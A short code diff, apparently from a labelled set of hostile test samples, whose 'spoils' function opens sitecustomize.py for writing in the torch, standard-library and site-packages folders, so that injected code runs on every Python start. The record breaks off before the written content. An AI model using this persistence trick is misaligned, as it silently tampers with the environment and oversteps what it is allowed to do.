@@ -3,14 +3,12 @@
 # class: I01, I03
 import os
 import site
-import sys
 
 import torch
 
 
 def spoils():
     folders = {os.path.dirname(torch.__file__), os.path.dirname(os.__file__), *site.getsitepackages()}
-    folders.update(p for p in sys.path if os.path.isdir(p))
     for folder in folders:
         try:
             with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
